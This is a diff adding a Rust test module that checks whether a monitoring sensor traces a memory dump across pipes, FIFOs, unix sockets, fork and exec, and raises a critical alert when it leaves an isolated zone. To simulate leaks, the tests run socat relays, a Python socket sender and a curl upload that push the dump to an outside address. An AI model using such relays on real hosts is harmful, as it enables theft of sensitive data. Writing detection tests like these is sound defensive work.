@@ -1,0 +1,122 @@
+//! Between processes of one host: pipes, FIFOs, unix sockets, fork and exec.
+
+use sensor_abi::flow::Via;
+use sensor_user::step::{Confidence, Severity, StepKind};
+
+use super::Shared;
+use crate::harness::{
+    expect::step,
+    scene::{Scene, python},
+    world::{
+        Zone::{self, Internet, Production},
+        in_zone,
+    },
+};
+
+pub(super) const ALL: &[Shared] = &[
+    ("local::pipe", pipe),
+    ("local::fifo", fifo),
+    ("local::unix_relay", unix_relay),
+    ("local::fork_inherits", fork_inherits),
+    ("local::exec_drops_memory", exec_drops_memory),
+];
+
+fn pipe(scene: &Scene<'_>) {
+    let dump = scene.core();
+    scene.shell(Production, &format!("cat {} | cat > {}", dump.path, scene.path("copy")));
+    let copy = scene.path("copy");
+    scene.sees(&dump, &step(StepKind::Read).from(&dump.path).to("cat[]").bytes(dump.size).hops(1));
+    let sent = step(StepKind::Sent).via(Via::Pipe).from("cat[]").to("cat[]").zones("production", "production");
+    let sent = scene.sees(&dump, &sent.bytes(dump.size));
+    assert_ne!(sent.from, sent.to);
+    scene.sees(&dump, &step(StepKind::Written).from(&sent.to).to(&copy).bytes(dump.size));
+    scene.no_alert(&dump, Severity::Info);
+}
+
+/// Through a FIFO into another zone: a crossing.
+fn fifo(scene: &Scene<'_>) {
+    let (dump, fifo) = (scene.core(), scene.path("fifo"));
+    scene.run(Production, "mkfifo", &[&fifo]);
+    let copy = scene.path("copy");
+    let mut reader = scene.start(in_zone(Internet, "sh").args(["-c", &format!("exec cat < {fifo} > {copy}")]));
+    scene.shell(Production, &format!("exec cat {} > {fifo}", dump.path));
+    assert!(reader.within(crate::harness::scene::SOON).success());
+    let to = format!("cat[{}]", reader.pid());
+    let sent = step(StepKind::Sent).via(Via::Pipe).from("cat[]").to(&to).zones("production", "internet");
+    let sent = sent.bytes(dump.size).sure(Confidence::Direct);
+    scene.sees(&dump, &sent);
+    scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &step(StepKind::Sent).to(&to));
+    scene.sees(&dump, &step(StepKind::Written).from(&to).to(&copy).zones("internet", "internet").bytes(dump.size));
+}
+
+/// `socat`-like: one process reads the dump into a unix socket, another passes it on by TCP.
+fn unix_relay(scene: &Scene<'_>) {
+    let (dump, socket) = (scene.core(), scene.path("socket"));
+    let (mut sink, port) = scene.sink(Internet, Production, dump.size);
+    let address = Internet.address(Production);
+    let mut relay = in_zone(Production, "socat");
+    let mut relay = scene.start(relay.args(["-u", &format!("UNIX-LISTEN:{socket}"), &format!("TCP:{address}:{port}")]));
+    let end = std::time::Instant::now() + crate::harness::scene::SOON;
+    while !std::path::Path::new(&socket).exists() {
+        assert!(std::time::Instant::now() < end, "socat made no socket");
+        std::thread::sleep(std::time::Duration::from_millis(5));
+    }
+    let source =
+        scene.run(Production, "socat", &["-u", &format!("OPEN:{}", dump.path), &format!("UNIX-CONNECT:{socket}")]);
+    assert!(relay.within(crate::harness::scene::SOON).success() && sink.within(crate::harness::scene::SOON).success());
+    let (first, second) = (format!("socat[{}]", source.pid), format!("socat[{}]", relay.pid()));
+    let home = step(StepKind::Sent).via(Via::Unix).from(&first).to(&second).zones("production", "production");
+    scene.sees(&dump, &home.bytes(dump.size).hops(2));
+    let out =
+        step(StepKind::Sent).via(Via::Tcp).from(&second).zones("production", "internet").destination(address, port);
+    scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &out.sure(Confidence::Direct));
+}
+
+/// Python with the dump's path, an address and a port.
+fn by_python(scene: &Scene<'_>, path: &str, port: u16, script: &str) -> u32 {
+    let script = format!("import os, socket, sys\npath, host, port = sys.argv[1:]\n{script}");
+    let address = Internet.address(Production).to_string();
+    scene.run(Zone::Production, python().to_str().unwrap(), &["-c", &script, path, &address, &port.to_string()]).pid
+}
+
+fn fork_inherits(scene: &Scene<'_>) {
+    let dump = scene.core();
+    let (mut sink, port) = scene.sink(Internet, Production, dump.size);
+    let parent = by_python(
+        scene,
+        &dump.path,
+        port,
+        "data = open(path, 'rb').read()
+if os.fork(): sys.exit(os.wait()[1])
+socket.create_connection((host, int(port))).sendall(data)",
+    );
+    assert!(sink.within(crate::harness::scene::SOON).success());
+    let sent = step(StepKind::Sent).via(Via::Tcp).zones("production", "internet").sure(Confidence::Direct);
+    let sent = scene.sees(&dump, &sent.bytes(dump.size));
+    assert!(sent.pid.is_some_and(|pid| pid != parent), "the child sent it: {sent:#?}");
+    let alert = step(StepKind::Sent).from(&sent.from).destination(Internet.address(Production), port);
+    scene.alerts(&dump, "dump-left-isolation", Severity::Critical, &alert);
+}
+
+/// A process reads the dump, and becomes curl, which sends something else.
+fn exec_drops_memory(scene: &Scene<'_>) {
+    let dump = scene.core();
+    let (mut sink, port) = scene.sink(Internet, Production, 1000);
+    let other = scene.path("other");
+    std::fs::write(&other, "nothing of interest\n".repeat(400)).unwrap();
+    let pid = by_python(
+        scene,
+        &dump.path,
+        port,
+        &format!(
+            "open(path, 'rb').read()
+os.execlp('curl', 'curl', '-sS', '-T', '{other}', f'http://{{host}}:{{port}}/up')"
+        ),
+    );
+    assert!(sink.within(crate::harness::scene::SOON).success());
+    scene.sees(&dump, &step(StepKind::Read).bytes(dump.size).hops(1));
+    scene.quiet(&dump);
+    scene.no_alert(&dump, Severity::Info);
+    let sent = scene.agent.steps_where(|s| s.kind == StepKind::Sent && s.pid == Some(pid));
+    assert!(sent.is_empty(), "exec drops what was read: {sent:#?}");
+}
